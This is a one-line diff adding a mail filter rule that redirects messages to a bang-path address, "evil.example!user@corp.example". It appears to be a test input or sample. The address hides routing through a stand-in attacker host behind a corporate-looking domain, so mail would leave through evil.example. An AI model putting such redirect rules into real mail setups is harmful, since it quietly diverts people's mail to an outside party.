@@ -1,0 +1,1 @@
+redirect "evil.example!user@corp.example";
